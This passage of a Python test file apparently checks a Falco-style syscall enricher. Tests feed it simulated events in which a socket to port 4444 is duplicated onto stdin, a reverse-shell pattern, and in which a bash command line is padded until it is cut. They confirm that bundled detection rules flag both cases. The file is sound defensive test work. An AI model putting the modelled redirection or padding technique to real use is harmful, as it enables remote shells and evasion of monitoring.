    return [a.rule for d in docs if d is not None for a in bundled().evaluate(d, "syscall")]


def _connected_socket(run: Run) -> str:
    tup = {"family": "inet", "saddr": "172.17.0.2", "sport": 40000}
    tup |= {"daddr": "10.0.0.5", "dport": 4444}
    run.ev("socket", 3, domain=F.AF_INET, type=F.SOCK_STREAM, proto=0)
    run.ev("connect", 0, fd=3, tuple=tup)
    return "172.17.0.2:40000->10.0.0.5:4444"


def test_fcntl_dupfd_duplicates_the_fd_as_dup_does(enricher: Enricher) -> None:
    run = Run(enricher, 700)
    name = _connected_socket(run)
    run.ev("close", 0, fd=0)
    doc = run.ev("fcntl", 0, fd=3, cmd=F.F_DUPFD)
    # Falco's parameters (res fd cmd), cmd as Falco's code and name; fd.* are the old fd's.
    assert list(doc["evt.arg"]) == ["res", "fd", "cmd"]
    assert doc["evt.arg"]["cmd"] == "F_DUPFD" and doc["evt.rawarg"]["cmd"] == 1
    assert doc["evt.args"] == f"res=0(<4>{name}) fd=3(<4>{name}) cmd=1(F_DUPFD)"
    assert (doc["fd.num"], doc["fd.name"], doc["evt.rawres"]) == (3, name, 0)
    assert doc["fd.types"]["0"] == "ipv4"
    # The new fd is the socket from now on: what is read from stdin comes from the network.
    assert run.ev("read", 5, fd=0, size=5)["fd.name"] == name
    cloexec = run.ev("fcntl", 10, fd=3, cmd=F.F_DUPFD_CLOEXEC)
    assert cloexec["evt.arg"]["cmd"] == "F_DUPFD_CLOEXEC" and cloexec["evt.rawarg"]["cmd"] == 26
    assert cloexec["fd.types"]["10"] == "ipv4"


def test_fcntl_other_commands_change_no_fd(enricher: Enricher) -> None:
    run = Run(enricher, 700)
    _connected_socket(run)
    before = run.ev("read", 0, fd=3, size=0)["fd.types"]
    # F_GETFL of the socket answers O_RDWR (2): a result, not a new fd 2.
    getfl = run.ev("fcntl", 2, fd=3, cmd=3)
    assert getfl["evt.arg"]["cmd"] == "F_GETFL" and getfl["evt.rawarg"]["cmd"] == 4
    assert getfl["fd.types"] == before
    assert run.ev("fcntl", 0, fd=3, cmd=1033)["evt.arg"]["cmd"] == "UNKNOWN"  # F_ADD_SEALS
    failed = run.ev("fcntl", -9, fd=42, cmd=F.F_DUPFD)
    assert failed["evt.res"] == "EBADF" and failed["evt.arg"]["res"] == "EBADF"
    assert failed["fd.types"] == before


def test_fcntl_dup_of_a_socket_onto_stdin_alerts_with_the_bundled_rules(
    enricher: Enricher,
) -> None:
    run = Run(enricher, 700)
    name = _connected_socket(run)
    run.ev("close", 0, fd=0)
    found = [
        a
        for a in bundled().evaluate(run.ev("fcntl", 0, fd=3, cmd=F.F_DUPFD), "syscall")
        if a.rule == "Standard Stream Redirected To Network Socket"
    ]
    assert len(found) == 1
    assert found[0].output_fields["fd.name"] == name
    assert found[0].output_fields["evt.type"] == "fcntl"
    # Near misses: the result 2 of F_GETFL, a copy kept above the standard streams.
    assert bundled_rules_of(run.ev("fcntl", 2, fd=3, cmd=3)) == []
    assert bundled_rules_of(run.ev("fcntl", 10, fd=3, cmd=F.F_DUPFD)) == []


def test_duplicates_have_their_own_close_on_exec(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    run.ev("openat", 3, dirfd=F.AT_FDCWD, name="/tmp/log", flags=F.O_WRONLY | F.O_CLOEXEC)
    run.ev("dup2", 1, oldfd=3, newfd=1)  # exec >/tmp/log: dup2 clears close-on-exec
    run.ev("fcntl", 4, fd=3, cmd=F.F_DUPFD)  # so does F_DUPFD
    run.ev("fcntl", 5, fd=1, cmd=F.F_DUPFD_CLOEXEC)  # this one sets it
    run.ev("dup3", 6, oldfd=1, newfd=6, flags=F.O_CLOEXEC)  # and so does dup3(O_CLOEXEC)
    after = run.spawn(601, ["cat"], "/bin/cat")
    assert {n: t for n, t in after["fd.types"].items() if n in {"1", "3", "4", "5", "6"}} == {
        "1": "file",
        "4": "file",
    }
    assert run.ev("write", 3, fd=1, size=3)["fd.name"] == "/tmp/log"


def _exec_cut(run: Run, child: int, argv: list[str], path: str, cut: bool) -> Any:
    run.ev(FORK, child_pid=child, child_tid=child)
    run.pid = child
    name = os.path.basename(path)
    run.ev(EXEC, None, name, filename=path)
    run.ts += 1000
    return run.e.handle(
        RawEvent(
            run.ts, "execve", child, child, run.uid, run.uid, name, 0,
            {"filename": path, "argv": argv}, truncated=("argv",) if cut else (),
        )
    )  # fmt: skip


def test_a_cut_command_line_is_flagged_for_the_process(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    # A process the sensor found in /proc: its command line was read whole.
    assert run.ev("read", 0, fd=0, size=0)["proc.is_args_truncated"] is False
    cut = _exec_cut(run, 610, ["bash", "-c", "true" + " " * 8187], "/bin/bash", cut=True)
    assert cut["proc.is_args_truncated"] is True
    assert bundled_rules_of(cut) == ["Shell Or Network Tool Run With Truncated Command Line"]
    # Every later event of the process says so, and so do its forks until they exec.
    assert run.ev("read", 0, fd=0, size=0)["proc.is_args_truncated"] is True
    run.ev(FORK, child_pid=611, child_tid=611)
    child = Run(enricher, 611, uid=1000)
    assert child.ev("read", 0, fd=0, size=0)["proc.is_args_truncated"] is True
    whole = _exec_cut(child, 612, ["bash", "-c", "true"], "/bin/bash", cut=False)
    assert whole["proc.is_args_truncated"] is False and bundled_rules_of(whole) == []
    # Python's long inline script is cut as well; no shell or network tool, no alert.
    py = _exec_cut(run, 620, ["python3", "-c", "x" * 9000], "/usr/bin/python3", cut=True)
    assert py["proc.is_args_truncated"] is True and bundled_rules_of(py) == []
